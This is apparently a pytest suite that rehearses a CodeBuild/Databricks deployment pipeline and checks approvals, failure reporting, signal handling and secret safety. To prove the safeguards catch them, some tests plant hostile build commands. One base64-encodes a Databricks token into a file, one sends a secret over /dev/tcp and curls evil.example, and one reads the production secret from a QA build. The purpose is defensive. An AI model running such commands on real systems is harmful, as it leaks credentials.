"""The whole pipeline on this machine, and what stops it: every fault that an operator may meet.

The faults run quick (DuckDB in place of Spark) and on a repository whose QA build tests nothing but
what the fault is about; the full build, on Spark, has tests of its own.
"""

import base64
import errno
import io
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import zipfile
from collections import Counter
from pathlib import Path

import pytest

from conftest import DEFAULT, ROOT, VARIANTS, need_java
from rehearsal import failures, leaks, promises
from rehearsal.aws.execution import Answer
from rehearsal.databricks.calls import recorded
from rehearsal.machine import gate
from rehearsal.machine.network import refusal
from rehearsing import (
    APPROVED,
    PRODUCTION_SPEC,
    QA,
    QA_SPEC,
    RUN_PROD,
    decide,
    edit,
    fail,
    in_prod,
    line_with,
    put,
    said,
    slim,
)

# ---- What goes well ------------------------------------------------------------------------------


def arrived(played, execution) -> None:
    """Asserts that production has what was approved, without a denied call."""
    assert execution.status == "Succeeded", said(execution, execution.stopped_in.name)
    assert [stage.status for stage in execution.stages] == ["Succeeded"] * 4
    nutter = played.codebuild.builds[0].reports[-1]
    assert (nutter.failed, nutter.passed) == ([], 2)
    assert not [call for call in played.aws.calls if not call.allowed]
    assert promises.broken(execution, recorded(played.home / "databricks")) == []
    assert "resources.json" in in_prod(played)
    (mail,) = played.mails
    assert "It is for commit" in mail and "4 to create" in mail


def test_the_default_reaches_production_quickly(default: Path, rehearsal) -> None:
    with rehearsal(default, make=True) as played:
        execution = played.push()
        arrived(played, execution)
        unit = played.codebuild.builds[0].reports[0]
        assert unit.failed == [] and unit.passed and unit.skipped


@pytest.mark.parametrize("name", [n for n in VARIANTS if n not in (DEFAULT, "odd-but-legal")])
def test_every_variant_reaches_production(rendering, wheel, tmp_path, rehearsal, name) -> None:
    root = slim(rendering(name), wheel, tmp_path / "my-data-project")
    with rehearsal(root) as played:
        execution = played.push()
        arrived(played, execution)


def test_the_odd_answers_reach_production(rendering, tmp_path, rehearsal) -> None:
    root = tmp_path / "odd"
    shutil.copytree(rendering("odd-but-legal"), root, ignore=shutil.ignore_patterns(".git"))
    edit(root, QA_SPEC, "make check lint test build", "make build")

    with rehearsal(root) as played:
        execution = played.push()
        assert execution.status == "Succeeded", said(execution, execution.stopped_in.name)
        assert played.codebuild.builds[0].reports[-1].passed == 2
        assert played.branch == VARIANTS["odd-but-legal"]["branch"]


def test_the_default_runs_whole_on_spark(default: Path, rehearsal) -> None:
    need_java()

    with rehearsal(default, quick=False, make=True) as played:
        execution = played.push()
        assert execution.status == "Succeeded", said(execution, execution.stopped_in.name)
        (unit, nutter) = played.codebuild.builds[0].reports
        assert (unit.failed, unit.skipped, nutter.failed, nutter.passed) == ([], 0, [], 2)
        assert "trips" in played.codebuild.builds[-1].log.read_text()
        (key,) = played.codebuild.builds[0].artifacts.values()
        bucket = played.pipeline.properties["ArtifactStore"]["Location"]
        body = played.aws.client("s3").get_object(Bucket=bucket, Key=key)["Body"].read()
        names = zipfile.ZipFile(io.BytesIO(body)).namelist()
        assert names == ["dist/my_data_project-0.1.0+1-py3-none-any.whl"]


def test_the_command_shows_it_and_says_so_with_its_exit_code(deploying: Path) -> None:
    command = [sys.executable, "-m", "rehearsal", deploying, "--quick", "--client", "stand-in"]
    good = subprocess.run([*command, "--approve"], cwd=ROOT, capture_output=True, text=True)
    assert good.returncode == 0, good.stdout + good.stderr
    assert "It is for commit" in good.stdout
    assert "- create jobs.my_data_project_job" in good.stdout  # the plan, as the reviewer sees it
    assert re.search("Production has commit [0-9a-f]{8}, as approved.", good.stdout)
    assert re.search(r"\n0 of 2 secrets found in [\d,]+ texts\n", good.stdout)
    leak = 'printf " %s" "$DATABRICKS_TOKEN" | base64 >leaked'  # CodeBuild's log hides plain ones
    edit(deploying, QA_SPEC, "python cicd/steps/wheels.py", f"{leak}; python cicd/steps/wheels.py")
    bad = subprocess.run(
        [*command, "--reject", "not today"], cwd=ROOT, capture_output=True, text=True
    )
    assert bad.returncode == 1
    assert "Stopped in Review." in bad.stdout
    assert bad.stdout.splitlines()[0] == bad.stdout.splitlines()[-1]
    assert bad.stdout.startswith("Client: a stand-in for the Databricks CLI ")
    assert "not today" in bad.stdout
    assert re.search(r"Secrets were written into:\n  builds/\S+/leaked\n", bad.stdout)


LOG = """\
[build] Running command make test
{output}
[build] Running finally command bash comment.sh
failed to comment
Phase BUILD FAILED: COMMAND_EXECUTION_ERROR: make test
No files of the report x
"""


@pytest.mark.parametrize(
    ("lines", "first", "last"),
    [
        (["one", "two"], "one", "two"),
        ([*"x" * 100, "E   ValueError: 1", *"y" * 60, "make: Error 2"], "E   ValueError: 1", "y"),
        ([*"x" * 100, "ImportError: a", "make: Error 2"], "x", "make: Error 2"),
        (list("x" * 100), "x", "x"),
    ],
)
def test_of_a_failure_the_command_is_shown_from_its_first_error(lines, first, last) -> None:
    command, *output, phase = failures.shown(LOG.format(output="\n".join(lines)))
    assert command == "[build] Running command make test"
    assert phase == "Phase BUILD FAILED: COMMAND_EXECUTION_ERROR: make test"
    shown = [line for line in output if line != "..."]
    assert (shown[0], shown[-1], len(shown)) == (first, last, min(len(lines), failures.MOST))
    assert ("..." in output) == (len(lines) > failures.MOST)


def test_of_a_failure_without_a_phase_the_end_is_shown() -> None:
    assert failures.shown("a\nb\n") == ["a", "b"]


SECRET = "dapi0123456789abcdef0123456789abcdef"


@pytest.mark.parametrize(
    "text",
    [
        SECRET,
        SECRET[::-1],
        SECRET[: len(SECRET) // 2],
        SECRET[len(SECRET) // 2 :],
        SECRET.encode().hex(),
        *(base64.b64encode(f"{'x' * n}{SECRET}xyz".encode()).decode() for n in range(6)),
    ],
)
def test_a_secret_is_found_in_whatever_form(text: str) -> None:
    wheel = io.BytesIO()
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a/b.py", f"x = '{text}'")
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("dist/a.whl", wheel.getvalue())
    assert text.encode() not in outer.getvalue()
    found = leaks.search(leaks.unpacked("Wheel", outer.getvalue()), [SECRET])
    assert found == (["Wheel/dist/a.whl/a/b.py"], 3)


def test_where_nothing_is_secret_nothing_is_found() -> None:
    assert leaks.search([("terminal", b"text")], []) == ([], 1)
    damaged = b"PK\x05\x06" + bytes(18)
    assert leaks.search(leaks.unpacked("damaged", damaged[:-1] + b"x"), [SECRET]).places == []


def test_when_it_is_killed_its_builds_end_too(deploying: Path, tmp_path: Path) -> None:
    started = tmp_path / "started"
    hang = f"(sleep 300 & echo $! $$ >{started}; sleep 300)"
    edit(deploying, QA_SPEC, "python cicd/steps/wheels.py", hang)
    command = [sys.executable, "-m", "rehearsal", deploying, "--quick", "--approve"]
    env = os.environ | {"TMPDIR": str(tmp_path)}
    process = subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.DEVNULL)
    while not (started.exists() and started.read_text()):
        assert process.poll() is None
        time.sleep(0.1)
    process.kill()
    process.wait()
    time.sleep(2)
    for pid in started.read_text().split():
        assert not is_running(pid)


def is_running(pid: str) -> bool:
    """Whether a process is there, and no zombie that waits to be asked how it ended."""
    state = subprocess.run(["ps", "-o", "stat=", "-p", pid], capture_output=True, text=True)
    return state.stdout.strip()[:1] not in ("", "Z")


def hears_ctrl_c() -> None:
    """Undoes what a shell does to what it starts in the background: that ignores Ctrl-C."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


@pytest.mark.parametrize(
    ("number", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143), (signal.SIGHUP, 129)]
)
def test_it_can_be_ended_and_leaves_nothing(
    deploying: Path, tmp_path: Path, number: int, code: int
) -> None:
    command = [sys.executable, "-u", "-m", "rehearsal", deploying, "--quick", "--approve"]
    (tmp_path / "tmp").mkdir()
    process = subprocess.Popen(
        command,
        cwd=ROOT,
        env=os.environ | {"TMPDIR": str(tmp_path / "tmp")},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        preexec_fn=hears_ctrl_c,
    )
    shown = ""
    while "QA: download_source" not in shown:
        line = process.stdout.readline()
        assert line, shown
        shown += line
    process.send_signal(number)
    rest, _ = process.communicate(timeout=60)
    assert process.returncode == code, rest
    assert rest.endswith("\nStopped. Nothing is left of this rehearsal.\n")
    assert "Traceback" not in rest
    assert list((tmp_path / "tmp").iterdir()) == []


def test_a_repository_that_a_team_has_changed(deploying: Path, rehearsal) -> None:
    """A build, a role and a stage more: the rehearsal knows the services, not this template."""
    stack = deploying / "cicd/stack.yml"
    text = stack.read_text()
    for block in re.findall(r"(?m)^  QaBuild\w*:\n(?:    .*\n|\n)+", text):
        smoke = re.sub(r"(-|/|StreamName: |log-stream:)qa\b", r"\1smoke", block)
        text = text.replace(block, block + smoke.replace("QaBuild", "SmokeBuild"))
    action = """\
        - Name: Smoke
          Actions:
            - Name: Smoke
              ActionTypeId: {Category: Test, Owner: AWS, Provider: CodeBuild, Version: "1"}
              Namespace: Smoke
              Configuration: {ProjectName: !Ref SmokeBuild}
              InputArtifacts: [{Name: Source}]
        - Name: Review
"""
    assert text.count("        - Name: Review\n") == 1
    text = text.replace("        - Name: Review\n", action)
    starts = "Resource: [!GetAtt QaBuild.Arn, !GetAtt PlanBuild.Arn, !GetAtt ProdBuild.Arn]"
    assert text.count(starts) == 1
    text = text.replace(starts, starts.replace("]", ", !GetAtt SmokeBuild.Arn]"))
    users = "Roles: [!Ref QaBuildRole, !Ref ProdBuildRole]\n      PolicyDocument:\n"
    assert users in text
    text = text.replace(users, users.replace("]", ", !Ref SmokeBuildRole]"))
    first = "#{PlanVariables.DATA_LOSS} What"
    assert text.count(first) == 1
    stack.write_text(text.replace(first, f"smoke #{{Smoke.RESULT}}; {first}"))
    (deploying / "cicd/buildspecs/smoke.yml").write_text(
        "version: 0.2\n"
        "env: {exported-variables: [RESULT]}\n"
        "phases: {build: {commands: ['echo smoke', export RESULT=good]}}\n"
    )

    with rehearsal(deploying) as played:
        execution = played.push()
        assert execution.status == "Succeeded", said(execution, execution.stopped_in.name)
        names = [stage.name for stage in execution.stages]
        assert names == ["Source", "QA", "Smoke", "Review", "Production"]
        assert execution.stages[3].actions[1].text.startswith("smoke good; It deletes no data.")


@pytest.mark.parametrize("seconds", [1, 2, 3])
def test_it_can_be_interrupted_while_it_starts(deploying: Path, seconds: float) -> None:
    command = [sys.executable, "-m", "rehearsal", deploying, "--quick", "--approve"]
    with subprocess.Popen(
        command,
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        preexec_fn=hears_ctrl_c,
    ) as process:
        time.sleep(seconds)
        process.send_signal(signal.SIGINT)
        shown, _ = process.communicate(timeout=60)
    assert process.returncode == 130
    assert "Traceback" not in shown and "Stopped." in shown


OF_THE_USER = {
    "AWS_PROFILE": "nobody",
    "BUNDLE_VAR_catalog": "mine",
    "DATABRICKS_CONFIG_PROFILE": "mine",
    "HTTP_PROXY": "http://127.0.0.1:9",
    "http_proxy": "http://127.0.0.1:9",
    "PIP_DRY_RUN": "1",
    "PIP_REQUIRE_VIRTUALENV": "1",
    "PYTHONPATH": "/nonexistent",
    "UV_OFFLINE": "1",
}


def test_the_users_environment_changes_nothing(deploying: Path) -> None:
    command = [sys.executable, "-m", "rehearsal", deploying, "--quick", "--approve"]
    result = subprocess.run(
        command, cwd=ROOT, env=os.environ | OF_THE_USER, capture_output=True, text=True
    )
    assert result.returncode == 0, result.stdout + result.stderr


ASCII = {"LC_ALL": "C", "PYTHONIOENCODING": "ascii", "TERM": "dumb"}
BUILD = {"version": 0.2}
FAILING = "version: 0.2\nphases: {build: {commands: ['false']}}\n"


@pytest.mark.parametrize("streams", ["<&-", ">&-", "2>&-"])
def test_any_terminal_will_do(deploying: Path, tmp_path: Path, streams: str) -> None:
    root = tmp_path / "a 'folder' \"of\" $mine: \u00e4"
    deploying.rename(root)
    (root / QA_SPEC).write_text(FAILING)
    run = f'"$@" {streams}'
    command = [sys.executable, "-m", "rehearsal", root, "--quick", "--approve"]
    result = subprocess.run(
        ["bash", "-c", run, "bash", *command],
        cwd=ROOT,
        env=os.environ | ASCII,
        capture_output=True,
    )
    shown = (result.stdout + result.stderr).decode("ascii")
    assert result.returncode == 1, shown
    assert "Traceback" not in shown
    marks = ["ok QA: build", "FAILED QA: DeployAndTest", "ok Source: Source"]
    assert [mark in shown for mark in marks] == [False, *[streams != ">&-"] * 2]


def test_output_that_cannot_be_written_is_said_in_one_line(deploying: Path, tmp_path: Path) -> None:
    command = [sys.executable, "-m", "rehearsal", deploying, "--quick", "--approve"]
    with open("/dev/full", "w") as output:
        result = subprocess.run(command, cwd=ROOT, stdout=output, stderr=subprocess.PIPE, text=True)
    assert result.returncode == 2
    assert result.stderr == f"The output: {os.strerror(errno.ENOSPC)}\n"


@pytest.mark.skipif(
    not gate.works_in_a_child(), reason="this machine lets nobody leave its network"
)
def test_a_build_reaches_nothing_of_the_machines_network(deploying: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:  # of another loopback than its own
        port = listener.getsockname()[1]
        attack = f"echo a secret >/dev/tcp/127.0.0.1/{port}; curl -s https://evil.example; false"
        spec = BUILD | {"env": {"shell": "bash"}, "phases": {"build": {"commands": [attack]}}}
        (deploying / QA_SPEC).write_text(json.dumps(spec))
        command = [sys.executable, "-m", "rehearsal", deploying, "--quick", "--approve"]
        result = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert "Connection refused" in result.stdout
    assert f"\n{refusal('evil.example')}\n" in result.stdout


def mounts() -> bool:
    """Whether this user may mount a file system, in a namespace of his own."""
    command = ["unshare", "-rm", "mount", "-t", "tmpfs", "none", "/mnt"]
    return bool(shutil.which("unshare")) and not subprocess.run(command).returncode


@pytest.mark.skipif(not mounts(), reason="needs to mount a small disk")
@pytest.mark.parametrize(
    "command", [None, "head -c 1G /dev/zero >fill; for i in $(seq 999); do echo $i; done"]
)
def test_a_full_disk_ends_it_with_a_line(deploying: Path, tmp_path: Path, command) -> None:
    text = (
        FAILING
        if command is None
        else json.dumps(BUILD | {"phases": {"build": {"commands": [command]}}})
    )
    (deploying / QA_SPEC).write_text(text)
    (tmp_path / "disk").mkdir()
    size = "20m" if command is None else "150m"
    script = (
        f'mount -t tmpfs -o size={size} none "$TMPDIR" && "$@"; code=$?; ls "$TMPDIR"; exit $code'
    )
    rehearse = [sys.executable, "-m", "rehearsal", deploying, "--quick", "--approve"]
    result = subprocess.run(
        ["unshare", "-rm", "bash", "-c", script, "bash", *rehearse, "--client", "stand-in"],
        cwd=ROOT,
        env=os.environ | {"TMPDIR": str(tmp_path / "disk")},
        capture_output=True,
        text=True,
        timeout=120,
    )
    why = f"{tmp_path}/disk is full: free some space there, or set TMPDIR to another folder\n"
    assert why in result.stdout
    assert "Traceback" not in result.stdout + result.stderr
    assert result.returncode in (1, 2)
    left = result.stdout.partition(why)[2].splitlines()
    assert [name for name in left if not name.startswith("Client: ")] == []


def test_without_java_ci_fails_with_a_message(repository: Path) -> None:
    env = os.environ | {"CI": "true", "JAVA_HOME": "/nowhere"}
    command = [sys.executable, "-m", "rehearsal", repository, "--approve"]
    result = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True)
    assert result.returncode == 2
    assert "Java 17 or newer is needed; or pass --quick" in result.stdout


def test_another_folder_is_refused_with_a_message(tmp_path: Path) -> None:
    command = [sys.executable, "-m", "rehearsal", tmp_path, "--quick"]
    result = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
    assert result.returncode == 2
    assert "not there; is" in result.stdout.replace("\n", " ")


def test_without_a_terminal_the_approval_is_rejected(deploying: Path) -> None:
    command = [sys.executable, "-m", "rehearsal", deploying, "--quick"]
    nobody = subprocess.DEVNULL
    result = subprocess.run(command, cwd=ROOT, stdin=nobody, capture_output=True, text=True)
    assert result.returncode == 1
    assert "pass --approve or --reject" in " ".join(result.stdout.split())
    assert "Traceback" not in result.stdout + result.stderr


# ---- Credentials and network ---------------------------------------------------------------------


def test_a_placeholder_stops_qa(repository: Path, rehearsal) -> None:
    with rehearsal(repository) as played:
        put(played, "QaSecret", {"token": "not-set"})
        execution = played.push()
        assert "is still the stack's placeholder; set it: make secrets ENV=qa" in said(
            execution, "QA"
        )
        assert in_prod(played) == []


def test_a_missing_secret_stops_qa(repository: Path, rehearsal) -> None:
    with rehearsal(repository) as played:
        client = played.aws.client("secretsmanager")
        secret = played.aws.stack.arn("QaSecret")
        client.delete_secret(SecretId=secret, ForceDeleteWithoutRecovery=True)
        execution = played.push()
        assert "DOWNLOAD_SOURCE: Secrets Manager error for DATABRICKS_TOKEN" in said(
            execution, "QA"
        )
        assert in_prod(played) == []


@pytest.mark.parametrize(("secret", "stage"), [("QaSecret", "QA"), ("ProdSecret", "Review")])
def test_a_refused_secret_stops_its_stage(
    deploying: Path, rehearsal, secret: str, stage: str
) -> None:
    with rehearsal(deploying) as played:
        put(played, secret, {"token": played.credentials.canary})
        execution = played.push()
        assert "refuses the credential (HTTP 401)" in said(execution, stage)
        assert in_prod(played) == []


def test_qa_cannot_read_prods_secret(repository: Path, rehearsal) -> None:
    edit(
        repository,
        QA_SPEC,
        "      - cp -r built dist\n",
        '      - aws secretsmanager get-secret-value --secret-id "$(cat prods-arn)"\n',
    )

    with rehearsal(repository) as played:
        (played.repository / "prods-arn").write_text(played.aws.stack.arn("ProdSecret"))
        execution = played.push()
        text = said(execution, "QA")
        assert "is not authorized to perform: secretsmanager:GetSecretValue" in text
        (denied,) = (call for call in played.aws.calls if not call.allowed)
        assert (denied.role, denied.resource) == (
            "QaBuildRole",
            played.aws.stack.arn("ProdSecret"),
        )
        assert in_prod(played) == []


def test_a_tampered_client_is_never_run(repository: Path, rehearsal) -> None:
    with rehearsal(repository) as played:
        honest = played.network.hosts["github.com"]

        def tamper(method, path, headers, body):
            status, content = honest(method, path, headers, body)
            if path.endswith(".zip"):
                content += b"x"
            return status, content

        played.network.hosts["github.com"] = tamper
        execution = played.push()
        text = said(execution, "QA")
        assert "install_cli.sh: checksum of databricks_cli_" in text
        assert "It is not installed" in text
        assert not (played.home / "databricks/calls.jsonl").exists()
        assert in_prod(played) == []


def test_a_host_of_its_own_in_the_bundle_stops_qa(repository: Path, rehearsal) -> None:
    edit(repository, "databricks.yml", QA, "https://other.cloud.databricks.com")

    with rehearsal(repository) as played:
        execution = played.push()
        text = said(execution, "QA")
        assert (
            f"databricks.yml says https://other.cloud.databricks.com, the stack says {QA}" in text
        )
        assert in_prod(played) == []


def test_a_network_that_goes_away_stops_the_build(repository: Path, rehearsal) -> None:
    with rehearsal(repository) as played:

        def watch(build) -> None:
            played.network.gone = build.phases[-1].name == "PRE_BUILD"

        played.codebuild.watch = watch
        execution = played.push()
        assert f"preflight.py: qa: {QA} cannot be reached" in said(execution, "QA")
        assert in_prod(played) == []


# ---- Tests and jobs that fail --------------------------------------------------------------------

FIXTURE = "tests/nutter/sample_notebook_fixture.py"
BROKEN = {
    "lint": ("src/my_data_project/main.py", "import argparse\n", "import argparse, os\n"),
    "unit": ("tests/unit/test_trips.py", 'assert "--schema" in', 'assert "--catalogue" in'),
    "one-of-two": ("src/notebooks/sample_notebook.py", "F.lit(0)) <= 0", "F.lit(0)) < 0"),
    "before-all": (
        FIXTURE,
        "self.trips = spark",
        "raise RuntimeError('no table')\n        self.trips = spark",
    ),
    "job": (
        "src/notebooks/sample_notebook.py",
        "if source_profile",
        "raise ValueError('no rows')\nif source_profile",
    ),
}
SAYS = {
    "lint": "E401",
    "unit": "test_main_says_what_is_missing",
    "one-of-two": "1 of 2 failed",
    "before-all": "before_all raised RuntimeError: no table",
    "job": "ValueError: no rows",
}


@pytest.mark.parametrize("broken", BROKEN)
def test_what_fails_in_qa_stops_there(repository: Path, rehearsal, broken: str) -> None:
    edit(repository, *BROKEN[broken])
    if broken in ("lint", "unit"):
        what = "make lint" if broken == "lint" else "make test"
        edit(repository, QA_SPEC, "cp -r built dist", what)

    with rehearsal(repository, make=broken in ("lint", "unit")) as played:  # make locks packages
        execution = played.push()
        assert SAYS[broken] in said(execution, "QA")
        reports = [report for build in played.codebuild.builds for report in build.reports]
        failed = [case for report in reports for case in report.failed]
        reported = broken in ("unit", "one-of-two", "before-all")
        assert bool(failed) is reported
        assert in_prod(played) == []
        assert any("Stage QA of the pipeline" in str(mail) for mail in played.mails)


def test_an_empty_fixture_stops_qa(repository: Path, rehearsal) -> None:
    text = (repository / FIXTURE).read_text()
    cut = text.index("    def run_profile(self)")
    (repository / FIXTURE).write_text(text[:cut].rstrip() + "\n")

    with rehearsal(repository) as played:
        execution = played.push()
        assert "the fixture has no run_ or assertion_ method" in said(execution, "QA")
        assert in_prod(played) == []


# ---- Approval, production, two at once -----------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "message"),
    [
        (Answer("Rejected", "drops a table"), "Rejected: drops a table"),
        (Answer("Expired", "7 days"), "Expired: 7 days"),
    ],
)
def test_what_is_not_approved_does_not_reach_production(
    deploying: Path, rehearsal, answer: Answer, message: str
) -> None:
    with rehearsal(deploying) as played:
        decide(played, answer)
        execution = played.push()
        assert message in said(execution, "Review")
        assert in_prod(played) == []


def test_a_release_without_its_wheel_cannot_be_planned(deploying: Path, rehearsal) -> None:
    edit(deploying, QA_SPEC, 'files: ["dist/*.whl"]', 'files: ["README.md"]')

    with rehearsal(deploying) as played:
        execution = played.push()
        assert "exit status 1" in said(execution, "Review")
        assert in_prod(played) == []


def test_a_deployment_that_fails_half_way_is_seen(deploying: Path, rehearsal) -> None:
    with rehearsal(deploying) as played:
        fail(played, "deploy", after=1)
        execution = played.push()
        text = said(execution, "Production")
        assert "the workspace is down" in text
        assert "bundle run" not in text.partition("Running command databricks bundle deploy")[2]


def test_a_job_that_fails_in_production_is_seen(default: Path, deploying: Path, rehearsal) -> None:
    text = (deploying / PRODUCTION_SPEC).read_text()
    run = line_with(default, PRODUCTION_SPEC, RUN_PROD)
    (deploying / PRODUCTION_SPEC).write_text(text + run)

    with rehearsal(deploying) as played:
        fail(played, "run")
        execution = played.push()
        assert "the workspace is down" in said(execution, "Production")
        assert any("Stage Production of the pipeline" in str(mail) for mail in played.mails)


def test_a_build_that_is_killed_stops_and_the_next_push_goes_through(deploying, rehearsal) -> None:
    with rehearsal(deploying) as played:

        def watch(build) -> None:
            if build.phases[-1].name == "BUILD" and len(played.codebuild.builds) == 1:
                build.stop()

        played.codebuild.watch = watch
        execution = played.push()
        said(execution, "QA")
        assert played.codebuild.builds[0].status == "STOPPED"
        assert in_prod(played) == []
        assert played.push().status == "Succeeded"


def test_a_push_while_an_approval_waits_comes_after_it(deploying: Path, rehearsal) -> None:
    """The newest of those that wait takes the place of the older; nothing overtakes a review."""
    later: list[threading.Thread] = []

    with rehearsal(deploying) as played:
        gate = played.pipeline.gates["Review"]

        def push(number: int) -> None:
            """Pushes, and returns when that execution waits before the review."""
            (played.repository / "README.md").write_text(f"push {number}\n")
            later.append(threading.Thread(target=played.push))
            later[-1].start()
            with gate.condition:
                there = gate.condition.wait_for(
                    lambda: (
                        gate.waiting
                        and played.pipeline.executions.index(gate.waiting) == number - 1
                    ),
                    timeout=90,
                )
            assert there

        def decide(execution, action):
            if execution is played.pipeline.executions[0]:
                push(2)
                push(3)
            return APPROVED

        played.pipeline.approvals.decide = decide
        played.push()
        for thread in later:
            thread.join(90)
        first, second, third = played.pipeline.executions
        assert (first.status, second.status, third.status) == (
            "Succeeded",
            "Superseded",
            "Succeeded",
        )
        builds = Counter(build.project for build in played.codebuild.builds)
        names = ("my-data-project-qa", "my-data-project-plan", "my-data-project-prod")
        assert builds == dict(zip(names, (3, 2, 4), strict=True))  # Deploy and Run, twice
        (plan,) = (b for b in played.codebuild.builds if b.id == "my-data-project-plan:00000002")
        # Planned when the release before had been deployed: else this plan would be stale.
        assert "A deployment to production is running; the plan waits" in plan.log.read_text()
